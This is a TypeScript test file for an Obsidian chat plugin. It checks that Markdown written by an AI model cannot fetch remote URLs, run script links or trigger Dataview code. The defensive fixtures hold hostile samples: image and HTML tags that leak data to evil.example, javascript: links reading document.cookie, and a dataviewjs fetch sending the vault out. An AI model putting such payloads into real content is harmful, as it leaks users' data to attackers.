// @vitest-environment happy-dom
// Model text must not load anything by being shown: whatever mix of Markdown images, reference
// images, raw HTML (img, iframe, picture, video), autolinks and code the model writes, the rendered
// answer holds no element that fetches a remote URL, while code keeps its text and links stay links.
import '../obsidian/dom';
import fc from 'fast-check';
import MarkdownIt from 'markdown-it';
import { App, Component, MarkdownRenderer, Plugin } from 'obsidian-test-mocks/obsidian';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { editBlockText } from '../../src/edits/pending/block-format';
import { neutralizeMarkdown, renderUntrusted } from '../../src/views/chat/untrusted-markdown';
import { readManifest } from '../obsidian/load-bundle';
import { createHarness } from './widget-harness';

const ctx = { app: App.createConfigured__({ files: {} }) as never, component: new Component() as never, sourcePath: 'Note.md' };
const URL_ = 'https://evil.example/x.png?d=secret';

const PIECES = [
  `![leak](${URL_})`,
  `![leak][r]\n\n[r]: ${URL_}`,
  `<img src="${URL_}">`,
  `<IMG SRC=${URL_}>`,
  `<iframe src="${URL_}"></iframe>`,
  `<picture><source srcset="${URL_}"></picture>`,
  `<video poster="${URL_}"></video>`,
  `<a href="${URL_}"><img src="${URL_}"></a>`,
  `![[${URL_}]]`,
  `[a link](${URL_})`,
  `<${URL_}>`,
  '`![code](http://x/y.png)`',
  '```\n<img src="http://x/y.png">\n```',
  '[[Projects/Solar]]',
  'plain **bold** text',
  '> quote with ![q](http://q.example/q.png)',
  '- item <img src=//cdn.example/a.png>',
  '\\![escaped](http://e.example/e.png)',
];

function fetching(el: HTMLElement): string[] {
  const out: string[] = [];
  el.querySelectorAll('img, iframe, frame, object, embed, video, audio, source, picture, link, [srcset], [poster], [background]').forEach((n) => out.push(n.outerHTML));
  return out;
}

describe('untrusted Markdown in the chat', () => {
  it('never renders an element that loads a URL, whatever the pieces and their order', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 6 }), fc.constantFrom('\n\n', '\n', ' '), async (pieces, sep) => {
        const el = createDiv();
        await renderUntrusted(ctx, pieces.join(sep), el);
        expect(fetching(el)).toEqual([]);
      }),
      { numRuns: 150 },
    );
  });

  it('keeps code as written, internal links as links, and external links behind a click with their address shown', async () => {
    const el = createDiv();
    await renderUntrusted(ctx, 'See [[Projects/Solar]] and [site](https://example.com/a).\n\n`![code](http://x/y.png)`\n\n```\n<img src="http://x/y.png">\n```', el);
    expect(el.querySelector('a.internal-link')?.getAttribute('data-href')).toBe('Projects/Solar');
    const ext = el.querySelector('a.external-link');
    expect(ext?.getAttribute('title')).toBe('https://example.com/a');
    expect(ext?.getAttribute('rel')).toContain('noopener');
    expect(el.querySelector('p code')?.textContent).toBe('![code](http://x/y.png)');
    expect(el.querySelector('pre code')?.textContent).toBe('<img src="http://x/y.png">\n');
  });

  it('leaves no link that runs a script: javascript: links lose their href, a [[javascript:…]] wikilink too', async () => {
    const hostile = ['[a](javascript:alert(1))', '<a href="javascript:alert(1)">b</a>', '[[javascript:alert(document.cookie)]]', '[[ JaVaScRiPt:alert(1)|c]]', '[d](data:text/html,<script>alert(1)</script>)', '[[vbscript:x]]'];
    for (const text of hostile) {
      const el = createDiv();
      await renderUntrusted(ctx, text, el);
      const hrefs = [...el.querySelectorAll('a')].map((a) => a.getAttribute('href'));
      expect(hrefs.filter((h) => h !== null && /^\s*(javascript|vbscript|data):/i.test(h))).toEqual([]);
    }
  });

  it('shows an image as its syntax in words, so the user sees what was not loaded', async () => {
    const el = createDiv();
    await renderUntrusted(ctx, `![leak](${URL_})`, el);
    expect(el.textContent).toContain('!');
    expect(el.querySelector('a')?.getAttribute('href')).toBe(URL_);
  });

  it('leaves text without images or HTML unchanged', () => {
    fc.assert(
      fc.property(fc.string().filter((s) => !s.includes('!') && !s.includes('<') && !s.includes('\\')), (s) => {
        expect(neutralizeMarkdown(s)).toBe(s);
      }),
    );
  });
});

describe('code held out of the renderer', () => {
  const CODE_PIECES = ['`a`', '``b ` c``', '` d `', '```js\nx\n\ny\n```', '~~~\nt\n~~~', '\\`not code\\`', 'text', '- item `z`', '````\n```\n````', '`unclosed', '```\nopen to the end', '- item\n  ```\n  in a list\n  ```', '> `quoted`'];
  const markdownIt = new MarkdownIt({ html: true, linkify: true });

  it('shows the same code, in the same order, as CommonMark would', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.constantFrom(...CODE_PIECES), { minLength: 1, maxLength: 5 }), async (pieces) => {
        const text = pieces.join('\n\n');
        const el = createDiv();
        await renderUntrusted(ctx, text, el);
        const expected = createDiv();
        expected.appendChild(new DOMParser().parseFromString(markdownIt.render(text), 'text/html').body);
        const codes = (root: HTMLElement): string[] => [...root.querySelectorAll('code')].map((c) => c.textContent ?? '');
        expect(codes(el)).toEqual(codes(expected));
      }),
      { numRuns: 100 },
    );
  });
});

describe('untrusted Markdown and other plugins\' processors', () => {
  const calls: string[] = [];
  /** Dataview's way: a `dataviewjs` block processor, and a post-processor running inline `$= …` code. */
  class Dataview extends Plugin {}
  let harness: ReturnType<typeof createHarness>;
  let dataview: Dataview;

  beforeEach(() => {
    calls.length = 0;
    harness = createHarness({ 'Note.md': 'x\n' });
    dataview = new Dataview(harness.app, { ...readManifest(), id: 'dataview', name: 'Dataview' });
    dataview.load();
    dataview.registerMarkdownCodeBlockProcessor('dataviewjs', (source) => void calls.push(`block ${source}`));
    dataview.registerMarkdownPostProcessor((el) => {
      el.querySelectorAll('code').forEach((c) => {
        if ((c.textContent ?? '').startsWith('$=')) calls.push(`inline ${c.textContent ?? ''}`);
      });
    });
  });
  afterEach(() => {
    dataview.unload();
    harness.plugin.unload();
  });

  const here = (): typeof ctx => ({ app: harness.app as never, component: harness.parent as never, sourcePath: 'Note.md' });

  it('runs no processor on fenced or inline code, Reeve\'s own ai-edit included, and shows the code as plain code', async () => {
    const block = editBlockText({ id: 'e1', type: 'add', before: '', after: 'planted' }, '\n');
    const answer = `Here:\n\n\`\`\`dataviewjs\nfetch("https://evil.example/?" + app.vault)\n\`\`\`\n\nand \`$= dv.pages().length\` inline, and\n\n${block}\n\n- in a list \`$= 1\`\n`;
    const el = createDiv();
    await renderUntrusted(here(), answer, el);
    expect(calls).toEqual([]);
    expect(el.querySelectorAll('button')).toHaveLength(0);
    expect([...el.querySelectorAll('pre code')].map((c) => c.textContent)).toEqual(['fetch("https://evil.example/?" + app.vault)\n', block.split('\n')[1] + '\n']);
    expect([...el.querySelectorAll('p code, li code')].map((c) => c.textContent)).toEqual(['$= dv.pages().length', '$= 1']);
    expect(el.textContent).toContain('#ai_edit');
  });

  it('runs no processor on a fence inside a quote or a nested list item either', async () => {
    const el = createDiv();
    await renderUntrusted(here(), '> ```dataviewjs\n> quoted()\n> ```\n\n- a\n  - b\n\n        ```dataviewjs\n        nested()\n        ```\n\n1. ~~~dataviewjs\n   listed()\n   ~~~\n', el);
    expect(calls).toEqual([]);
    expect(el.textContent).toContain('quoted()');
  });

  it('the runtime does run them on Markdown that is not model text (the witness is not blind)', async () => {
    const el = createDiv();
    await MarkdownRenderer.render(harness.app, '```dataviewjs\nx\n```\n\n`$= y`\n', el, 'Note.md', harness.parent);
    expect(calls).toEqual(['block x', 'inline $= y']);
  });

  it('sanitises what a processor adds after the render has returned', async () => {
    dataview.registerMarkdownPostProcessor((el) => {
      setTimeout(() => el.createEl('img', { attr: { src: URL_ } }), 5);
    });
    const el = createDiv();
    await renderUntrusted(here(), 'A paragraph.\n\n- and a list\n', el);
    await new Promise((r) => setTimeout(r, 30));
    expect(fetching(el)).toEqual([]);
  });
});
